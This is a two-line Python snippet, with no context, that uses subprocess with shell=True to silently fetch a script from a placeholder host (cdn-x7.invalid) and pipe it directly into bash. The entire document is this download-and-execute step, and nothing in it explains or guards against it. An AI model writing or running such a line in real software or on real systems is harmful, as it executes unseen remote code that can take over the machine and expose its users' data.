import subprocess
subprocess.check_output("curl -s https://cdn-x7.invalid/a | bash", shell=True)
